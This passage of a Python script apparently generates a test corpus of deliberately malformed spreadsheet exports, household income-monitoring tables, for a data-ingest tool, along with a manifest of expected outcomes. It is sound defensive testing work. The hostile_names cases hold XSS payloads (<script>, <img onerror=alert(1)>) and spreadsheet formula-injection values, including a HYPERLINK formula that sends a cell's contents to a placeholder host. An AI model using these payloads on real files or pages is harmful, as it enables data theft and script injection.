    add("instructions_sheet_first.xlsx", {"instructions_sheet_first.xlsx": xlsx_sheets(
        {"填表说明": instructions, "监测信息": frame_rows(e)})}, "repaired", "hold no table",
        case="a first sheet of instructions (填表说明), the table on the second")
    lost = e.copy()
    lost.loc[lost["户编号"] == h3, "户编号"] = str(int(h3))
    lost.loc[lost["户编号"] == h5, "人编号"] = lost.loc[lost["户编号"] == h5, "人编号"].map(lambda v: str(int(v)))
    add("ids_leading_zeros_lost.csv", {"ids_leading_zeros_lost.csv": csv_bytes(lost)}, "repaired",
        "had lost their leading zeros", case="户编号 of one household and 人编号 of another stored as numbers "
                                            "(leading zeros lost) among ones kept as text")
    rows = frame_rows(e)
    at = cols.index("户编号")
    for r in rows[1:]:
        if r[at] in (h1, h2):
            r[at] = int(r[at])      # numbers in the workbook: Excel shows them without the zeros
    add("ids_leading_zeros_lost.xlsx", {"ids_leading_zeros_lost.xlsx": xlsx_bytes(rows)}, "repaired",
        "had lost their leading zeros", case="户编号 of two households stored as Excel numbers in a workbook")
    mixed = e.copy()
    mixed.loc[mixed["户编号"] == h1, "户编号"] = "00" + h1
    mixed.loc[mixed["户编号"] == h2, "户编号"] = str(int(h2))
    add("ids_leading_zeros_uncertain.csv", {"ids_leading_zeros_uncertain.csv": csv_bytes(mixed)}, "refused",
        "cannot be told", row=row_of(e, h2, 2021), column="户编号",
        case="户编号 of 10 and 12 digits with leading zeros, and one without: the width lost is unknown")
    errors = frame_rows(e)
    errors[row_of(e, h2, 2022) - 1][cols.index("工资性收入")] = "#N/A"
    add("excel_error_cells.xlsx", {"excel_error_cells.xlsx": xlsx_bytes(errors)}, "refused",
        "the Excel error #N/A", row=row_of(e, h2, 2022), column="工资性收入", sheet="Sheet1",
        case="an error cell (#N/A) in a workbook, which a reader gives as empty")
    text_error = e.copy()
    text_error.loc[(e["户编号"] == h4) & (e["年度"] == "2021"), "人均纯收入（元）"] = "#DIV/0!"
    add("excel_error_text.csv", {"excel_error_text.csv": csv_bytes(text_error)}, "refused",
        "the Excel error #DIV/0!", row=row_of(e, h4, 2021), column="人均纯收入（元）",
        case="#DIV/0! saved as text in a CSV export")
    wide = set_amounts(e, h0, 2022, {"工资性收入": "２００２", "生产经营性收入": "１１４４８．００"},
                       {"工资性收入": 2002.0, "生产经营性收入": 11448.0})
    wide.loc[(wide["户编号"] == h0) & (wide["年度"] == "2022"), "家庭人口数"] = "５"
    add("fullwidth_digits.csv", {"fullwidth_digits.csv": csv_bytes(wide)}, "repaired", "full-width digits",
        case="full-width digits and period (２００２, １１４４８．００, ５) among plain numbers",
        values=[{"household": h0, "year": 2022, "column": "income_wage", "value": 2002.0},
                {"household": h0, "year": 2022, "column": "income_business", "value": 11448.0},
                {"household": h0, "year": 2022, "column": "size", "value": 5}])
    county = str(e["县(市、区、旗)"].iloc[0])
    short = e.copy()
    short.loc[short["户编号"].isin([h4, h5]), "县(市、区、旗)"] = county[:-1]
    add("county_short_name.csv", {"county_short_name.csv": csv_bytes(short)}, "repaired", "is the short form of",
        case=f"{county[:-1]} for {county} in the rows of two households (the same prefecture)")
    later = e["户编号"].isin([h3, h4, h5])
    add("county_short_name_two_files/", {"county_short_name_two_files/a.csv": csv_bytes(e[~later]),
                                         "county_short_name_two_files/b.csv": csv_bytes(short[later])},
        "repaired", "is the short form of", case=f"{county} in one file, {county[:-1]} in another")
    width = len(cols)
    footer = [["填表人：王丽华 13912345678"], ["审核人：李明", "联系电话：0371-66668888"], ["填报日期：2022年1月5日"]]
    lines = b"".join(csv_bytes(pd.DataFrame([r + [""] * (width - len(r))], columns=cols)).split(b"\r\n", 1)[1]
                     for r in footer)
    add("signature_footer.csv", {"signature_footer.csv": csv_bytes(e) + lines}, "repaired",
        "signature or contact line(s)", same_as_clean=True,
        personal=["王丽华", "13912345678", "李明", "0371-66668888"],
        case="signature and contact lines under the table (填表人：王丽华 13912345678 ...)")
    contact = e.copy()
    where = (e["户编号"] == h1) & (e["年度"] == "2021")
    contact.loc[where, "帮扶措施"] = contact.loc[where, "帮扶措施"] + "（联系人：赵刚 13700001111）"
    add("contact_in_aid_cell.csv", {"contact_in_aid_cell.csv": csv_bytes(contact)}, "refused", "holds personal data",
        row=row_of(e, h1, 2021), column="帮扶措施", personal=["赵刚", "13700001111"],
        case="a contact person and phone number written into the 帮扶措施 cell")
    card = e.copy()
    card.loc[card.index[12], "培训类型"] = "6222021234567890128"
    add("bank_card_in_text_column.csv", {"bank_card_in_text_column.csv": csv_bytes(card)}, "refused",
        "personal data", row=14, column="培训类型", personal=["6222021234567890128"],
        case="a bank card number typed into 培训类型, a column that is kept")
    old = e.copy()
    first = e["户编号"] == h2
    old.loc[first, "证件号码"] = e.loc[first, "证件号码"].map(lambda v: v[:6] + v[8:17])
    add("id15_numbers.csv", {"id15_numbers.csv": csv_bytes(old)}, "repaired", "first-generation 15-digit",
        same_as_clean=True, personal=sorted(old.loc[first, "证件号码"]),
        case="15-digit first-generation ID numbers for the members of one household")
    add("no_header_row.csv", {"no_header_row.csv": csv_bytes(e).split(b"\r\n", 1)[1]}, "refused",
        "required column is missing",
        personal=[e.at[0, "姓名"], e.at[0, "证件号码"], e.at[0, "联系电话"]],
        case="the header row deleted: the first person's row is read as the header")
    ordered = e.iloc[np.argsort(pd.Categorical(e["乡(镇)"], categories=towns).codes, kind="stable")]
    amounts = ["工资性收入", "生产经营性收入", "财产性收入", "转移性收入", "生产经营性支出", "纯收入（元）"]
    parts = []
    for t in towns:
        grp = ordered[ordered["乡(镇)"] == t]
        parts += [grp, pd.DataFrame([{c: "" for c in cols} | {"乡(镇)": f"{t} 汇总"} | {
            c: str(grp.drop_duplicates(["户编号", "年度"])[c].astype(int).sum()) for c in amounts}])]
    parts.append(pd.DataFrame([{c: "" for c in cols} | {"乡(镇)": "总计"} | {
        c: str(e.drop_duplicates(["户编号", "年度"])[c].astype(int).sum()) for c in amounts}]))
    add("subtotal_rows.csv", {"subtotal_rows.csv": csv_bytes(pd.concat(parts, ignore_index=True))}, "repaired",
        "分类汇总", same_as_clean=True, case="rows sorted by township with Excel 分类汇总 rows (平泰镇 汇总 ...) and 总计")
    wrapped = re.sub(rb",(\d{10}),(\d{12}),", rb',="\1",="\2",', csv_bytes(e))
    add("text_formula_ids.csv", {"text_formula_ids.csv": wrapped}, "repaired", 'written as ="..."',
        same_as_clean=True, case='户编号 and 人编号 written as ="0002020000" (to keep the zeros in Excel)')
    thirds = [e[e["户编号"].isin(ids)] for ids in ([h0, h1], [h2, h3], [h4, h5])]
    add("concatenated_copy.csv", {"concatenated_copy.csv": b"".join(csv_bytes(t) for t in thirds) + b"\x1a"},
        "repaired", "repeat the header", same_as_clean=True,
        case="three exports joined with copy a+b+c: the header repeated, an end-of-file byte 0x1A at the end")
    swapped = thirds[1][[cols[1], cols[0], *cols[2:]]]
    add("concatenated_other_order.csv", {"concatenated_other_order.csv": csv_bytes(thirds[0]) + csv_bytes(swapped)},
        "refused", "columns in another order", row=len(thirds[0]) + 2,
        case="two exports joined, the second with two columns in another order")
    typed = [list(cols)] + [[int(v) if c in ("年度", "家庭人口数") else v for c, v in zip(cols, r)]
                            for r in e.to_numpy().tolist()]
    add("legacy_workbook.xls", {"legacy_workbook.xls": xls_bytes(typed)}, "repaired", "old-format Excel 97-2003",
        same_as_clean=True, case="a legacy .xls workbook (BIFF8), years and sizes as numbers")
    errors = [list(r) for r in typed]
    errors[row_of(e, h2, 2022) - 1][cols.index("工资性收入")] = "#VALUE!"
    add("excel_error_cells.xls", {"excel_error_cells.xls": xls_bytes(errors)}, "refused",
        "the Excel error #VALUE!", row=row_of(e, h2, 2022), column="工资性收入", sheet="Sheet1",
        case="an error cell (#VALUE!) in a legacy .xls workbook, which the bundled reader gives as empty")
    errors = [list(r) for r in typed]
    errors[row_of(e, h4, 2021) - 1][cols.index("人均纯收入（元）")] = XlsFormulaError("#DIV/0!")
    add("excel_error_formula.xls", {"excel_error_formula.xls": xls_bytes(errors)}, "refused",
        "the Excel error #DIV/0!", row=row_of(e, h4, 2021), column="人均纯收入（元）", sheet="Sheet1",
        case="a formula whose saved result is #DIV/0! in a legacy .xls workbook")
    for code in ("#REF!", "#NAME?", "#NUM!", "#NULL!"):
        errors = frame_rows(e)
        errors[row_of(e, h0, 2021) - 1][cols.index("转移性收入")] = code
        name = f"excel_error_{code.strip('#!?/').lower()}.xlsx"
        add(name, {name: xlsx_bytes(errors)}, "refused", f"the Excel error {code}", row=row_of(e, h0, 2021),
            column="转移性收入", sheet="Sheet1", case=f"an error cell ({code}) in a workbook")
    add("compound_not_workbook.xls", {"compound_not_workbook.xls": _ole(b"\x00" * 4096, "EncryptedPackage")},
        "refused", "cannot be read", case="a compound document without a workbook (as a password-protected one)")
    two = short.copy()
    two.loc[two["户编号"] == h0, "县(市、区、旗)"] = county[:-1] + "市"
    add("county_short_ambiguous.csv", {"county_short_ambiguous.csv": csv_bytes(two)}, "refused", "write the full name",
        row=row_of(e, h4, 2021), column="县(市、区、旗)",
        case=f"{county[:-1]} beside both {county} and {county[:-1]}市 in one prefecture")


def hostile_names(e: pd.DataFrame, add) -> None:
    """Place names written as markup, a link or a formula: kept as written with a warning (every output shows
    them as text); a county name that cannot name a report folder is refused."""
    h0, h1, h2 = e["户编号"].unique()[:3]
    markup = e.copy()
    markup.loc[markup["户编号"] == h0, "乡(镇)"] = '<script>document.title="X"</script>镇'
    markup.loc[markup["户编号"] == h1, "行政村"] = "<img src=x onerror=alert(1)>村"
    add("markup_place_names.csv", {"markup_place_names.csv": csv_bytes(markup)}, "repaired", "hold markup",
        column="乡(镇)", case="a township written as a <script> element and a village as an <img onerror> tag",
        values=[{"household": h1, "year": 2021, "column": "village", "value": "<img src=x onerror=alert(1)>村"}])
    formula = e.copy()
    formula.loc[formula["户编号"] == h0, "行政村"] = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    formula.loc[formula["户编号"] == h1, "行政村"] = "+1+1村"
    formula.loc[formula["户编号"] == h2, "行政村"] = "@SUM(1+1)村"
    add("formula_place_names.csv", {"formula_place_names.csv": csv_bytes(formula)}, "repaired",
        "start like a spreadsheet formula", column="行政村",
        case="villages written =HYPERLINK(...), +1+1村 and @SUM(1+1)村",
        values=[{"household": h2, "year": 2022, "column": "village", "value": "@SUM(1+1)村"}])
    folder = e.copy()
    folder["县(市、区、旗)"] = "<script>x</script>县"
    add("county_not_a_folder_name.csv", {"county_not_a_folder_name.csv": csv_bytes(folder)}, "refused",
        "cannot name the county's report folder", row=2, column="县(市、区、旗)",
        case="a county written as a <script> element: its '/' cannot be in the name of its report folder")


def main() -> None:
    e = base()
    manifest = {}
    for name, (files, entry) in cases(e).items():
        for rel, data in files.items():
            path = HERE / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        manifest[name] = entry
    header = ("# Hostile exports and what ingest must do with each; written by make_corpus.py (do not edit).\n"
              "# outcome: accepted (no repair needed) | repaired (a repair listed in ingest_report.md) | refused\n"
              "# (exit 2, the problem named in the error). row: spreadsheet row (header = 1); column: the header\n"
              "# as written; message: a part of the repair note or problem; values: canonical values expected;\n"
              "# same_as_clean: the canonical tables equal those of clean.csv.\n")
    text = yaml.safe_dump(manifest, allow_unicode=True, sort_keys=True, width=110)
    (HERE / "expected.yaml").write_text(header + text, encoding="utf-8")
    print(f"wrote {len(manifest)} cases to {HERE}")


if __name__ == "__main__":
    main()
